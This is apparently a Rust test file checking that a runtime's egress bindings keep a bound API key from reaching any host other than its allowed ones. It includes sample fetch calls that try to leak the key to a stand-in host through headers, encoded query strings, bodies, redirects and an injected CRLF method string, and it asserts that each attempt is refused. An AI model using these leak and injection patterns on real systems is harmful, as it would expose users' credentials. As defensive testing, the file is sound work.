//! Egress bindings: a bound secret's value reaches only its hosts — not in a header, the
//! query (base64) or the body of a request elsewhere, nor through a redirect — and every
//! refusal is an `egress.blocked` record. Two loopback servers stand for two hosts,
//! `api.allowed.test` and `other.test` (fixed DNS answers), and record what reached them.

use std::net::SocketAddr;
use std::sync::{Arc, Mutex};

use axum::body::Bytes;
use axum::extract::{Query, State};
use axum::http::{HeaderMap, StatusCode, Uri};
use axum::response::{IntoResponse, Redirect};
use axum::routing::any;
use axum::Router;
use lumio_runtime::{ErrorCode, Runtime, RuntimeOptions};
use serde_json::json;

use crate::common::*;

const KEY: &str = "sk_live_egress_0123456789";

/// Every request a server received: URI, headers and body, as text.
#[derive(Default)]
struct Received(Mutex<Vec<String>>);

impl Received {
    fn all(&self) -> Vec<String> {
        self.0.lock().unwrap().clone()
    }
}

/// Records each request; `/redirect?to=URL&status=N` answers with a redirect there.
async fn recording_server() -> (SocketAddr, Arc<Received>) {
    let received = Arc::new(Received::default());
    let app = Router::new()
        .fallback(any(
            |State(received): State<Arc<Received>>,
             uri: Uri,
             headers: HeaderMap,
             Query(query): Query<std::collections::HashMap<String, String>>,
             body: Bytes| async move {
                let headers: Vec<String> = headers
                    .iter()
                    .map(|(k, v)| format!("{k}: {}", v.to_str().unwrap_or("")))
                    .collect();
                received.0.lock().unwrap().push(format!(
                    "{uri}\n{}\n{}",
                    headers.join("\n"),
                    String::from_utf8_lossy(&body)
                ));
                match (uri.path(), query.get("to")) {
                    ("/redirect", Some(to))
                        if query.get("status").map(String::as_str) == Some("307") =>
                    {
                        Redirect::temporary(to).into_response()
                    }
                    ("/redirect", Some(to)) => Redirect::to(to).into_response(),
                    _ => (StatusCode::OK, "ok").into_response(),
                }
            },
        ))
        .with_state(received.clone());
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let addr = listener.local_addr().unwrap();
    tokio::spawn(async move { axum::serve(listener, app).await.unwrap() });
    (addr, received)
}

struct Hosts {
    rt: Runtime,
    allowed: (u16, Arc<Received>),
    other: (u16, Arc<Received>),
}

async fn two_hosts() -> Hosts {
    let (allowed, allowed_seen) = recording_server().await;
    let (other, other_seen) = recording_server().await;
    let rt = Runtime::with_options(RuntimeOptions {
        limits: limits(),
        workers: 2,
        fetch_resolve: vec![
            ("api.allowed.test".to_owned(), allowed),
            ("other.test".to_owned(), other),
        ],
        ..RuntimeOptions::default()
    })
    .unwrap();
    Hosts {
        rt,
        allowed: (allowed.port(), allowed_seen),
        other: (other.port(), other_seen),
    }
}

/// Runs a handler that reads `STRIPE_KEY` as `key` and does `fetch`.
async fn fetch_with_key(
    hosts: &Hosts,
    host: &Arc<TestHost>,
    fetch: &str,
) -> Result<serde_json::Value, lumio_runtime::ActionError> {
    let (allowed, other) = (hosts.allowed.0, hosts.other.0);
    let fetch = fetch
        .replace("ALLOWED", &format!("http://api.allowed.test:{allowed}"))
        .replace("OTHER", &format!("http://other.test:{other}"));
    let dep = deploy(&action_src(
        "",
        &format!("const key = ctx.secrets.get('STRIPE_KEY');\nconst res = await {fetch};\nreturn res.status;"),
    ));
    run(&hosts.rt, &dep, "functions:test", json!({}), host)
        .await
        .result
}

fn bound_host() -> Arc<TestHost> {
    let host = TestHost::with(&[]);
    host.set_bound("STRIPE_KEY", KEY, &["*.allowed.test"]);
    host
}

#[tokio::test(flavor = "multi_thread")]
async fn the_allowed_host_gets_the_request() {
    let hosts = two_hosts().await;
    let host = bound_host();
    let result = fetch_with_key(
        &hosts,
        &host,
        "ctx.fetch('ALLOWED/v1/charges?k=' + btoa(key), { method: 'POST', headers: { Authorization: 'Bearer ' + key }, body: JSON.stringify({ key }) })",
    )
    .await;
    assert_eq!(result.unwrap(), json!(200));
    let got = hosts.allowed.1.all();
    assert_eq!(got.len(), 1);
    assert!(
        got[0].contains(&format!("authorization: Bearer {KEY}")),
        "{}",
        got[0]
    );
    assert!(
        got[0].contains(&format!("{{\"key\":\"{KEY}\"}}")),
        "{}",
        got[0]
    );
    assert!(host.egress_blocked.lock().unwrap().is_empty());
}

#[tokio::test(flavor = "multi_thread")]
async fn another_host_gets_nothing_in_any_part_of_the_request() {
    let hosts = two_hosts().await;
    let host = bound_host();
    for fetch in [
        "ctx.fetch('OTHER/x', { headers: { Authorization: 'Bearer ' + key } })",
        "ctx.fetch('OTHER/x', { headers: { 'X-Api-Key': key } })",
        "ctx.fetch('OTHER/x?k=' + btoa(key))",
        "ctx.fetch('OTHER/x?k=' + encodeURIComponent(key))",
        "ctx.fetch('OTHER/x', { method: 'POST', body: JSON.stringify({ secret: key }) })",
        "ctx.fetch('OTHER/x', { method: 'POST', body: btoa('user:' + key) })",
        // An extension method is any token: the value itself can be one.
        "ctx.fetch('OTHER/x', { method: key })",
        "ctx.fetch('OTHER/x', { method: key.toLowerCase() })",
    ] {
        let err = fetch_with_key(&hosts, &host, fetch).await.unwrap_err();
        assert_eq!(
            err.code,
            ErrorCode::FetchRefused,
            "{fetch}: {}",
            err.message
        );
        assert!(err.message.contains("secret STRIPE_KEY"), "{}", err.message);
        assert!(err.message.contains("other.test"), "{}", err.message);
        assert!(!err.message.contains(KEY), "{}", err.message);
    }
    assert!(hosts.other.1.all().is_empty(), "{:?}", hosts.other.1.all());
    let blocked = host.egress_blocked.lock().unwrap().clone();
    assert_eq!(blocked.len(), 8);
    assert!(blocked
        .iter()
        .all(|(name, h)| name == "STRIPE_KEY" && h == "other.test"));
}

#[tokio::test(flavor = "multi_thread")]
async fn a_redirect_to_another_host_carrying_the_value_is_refused_unsent() {
    let hosts = two_hosts().await;
    let host = bound_host();
    let other = format!("http://other.test:{}/landed", hosts.other.0);
    // A custom header goes along on a redirect; so does a 307's body.
    for fetch in [
        format!("ctx.fetch('ALLOWED/redirect?to=' + encodeURIComponent('{other}'), {{ headers: {{ 'X-Api-Key': key }} }})"),
        format!("ctx.fetch('ALLOWED/redirect?status=307&to=' + encodeURIComponent('{other}'), {{ method: 'POST', body: key }})"),
    ] {
        let err = fetch_with_key(&hosts, &host, &fetch).await.unwrap_err();
        assert_eq!(err.code, ErrorCode::FetchRefused, "{}", err.message);
        assert!(err.message.contains("a redirect to other.test"), "{}", err.message);
    }
    assert_eq!(hosts.allowed.1.all().len(), 2);
    assert!(hosts.other.1.all().is_empty(), "{:?}", hosts.other.1.all());
    assert_eq!(host.egress_blocked.lock().unwrap().len(), 2);

    // Authorization is dropped by the client on a cross-host redirect: nothing is carried.
    let fetch = format!("ctx.fetch('ALLOWED/redirect?to=' + encodeURIComponent('{other}'), {{ headers: {{ Authorization: 'Bearer ' + key }} }})");
    assert_eq!(
        fetch_with_key(&hosts, &host, &fetch).await.unwrap(),
        json!(200)
    );
    let landed = hosts.other.1.all();
    assert_eq!(landed.len(), 1);
    assert!(!landed[0].contains(KEY), "{}", landed[0]);
}

#[tokio::test(flavor = "multi_thread")]
async fn unbound_secrets_go_anywhere_as_before() {
    let hosts = two_hosts().await;
    let host = TestHost::with(&[("STRIPE_KEY", KEY)]);
    let result = fetch_with_key(
        &hosts,
        &host,
        "ctx.fetch('OTHER/x?k=' + btoa(key), { headers: { Authorization: 'Bearer ' + key }, method: 'POST', body: key })",
    )
    .await;
    assert_eq!(result.unwrap(), json!(200));
    assert_eq!(hosts.other.1.all().len(), 1);
    assert!(host.egress_blocked.lock().unwrap().is_empty());
}

#[tokio::test(flavor = "multi_thread")]
async fn a_method_carrying_the_value_is_checked_at_a_redirect_too() {
    let hosts = two_hosts().await;
    let host = bound_host();
    let other = format!("http://other.test:{}/landed", hosts.other.0);
    // A 307 repeats the method at the next host.
    let fetch = format!("ctx.fetch('ALLOWED/redirect?status=307&to=' + encodeURIComponent('{other}'), {{ method: key }})");
    let err = fetch_with_key(&hosts, &host, &fetch).await.unwrap_err();
    assert_eq!(err.code, ErrorCode::FetchRefused, "{}", err.message);
    assert!(
        err.message.contains("a redirect to other.test"),
        "{}",
        err.message
    );
    assert!(hosts.other.1.all().is_empty(), "{:?}", hosts.other.1.all());
}

#[tokio::test(flavor = "multi_thread")]
async fn a_method_that_is_not_a_token_is_refused_unsent() {
    let hosts = two_hosts().await;
    let host = TestHost::with(&[("STRIPE_KEY", KEY)]);
    for method in [
        "''",
        "'GET /x HTTP/1.1'",
        "'GET\\r\\nX-Leak: ' + key",
        "'G\\u00c9T'",
        "'CONNECT'",
        "'trace'",
    ] {
        let fetch = format!("ctx.fetch('OTHER/x', {{ method: {method} }})");
        let err = fetch_with_key(&hosts, &host, &fetch).await.unwrap_err();
        assert_eq!(
            err.code,
            ErrorCode::ActionError,
            "{method}: {}",
            err.message
        );
        assert!(
            err.message.contains("not a valid HTTP method"),
            "{method}: {}",
            err.message
        );
        assert!(!err.message.contains(KEY), "{}", err.message);
    }
    assert!(hosts.other.1.all().is_empty(), "{:?}", hosts.other.1.all());
}
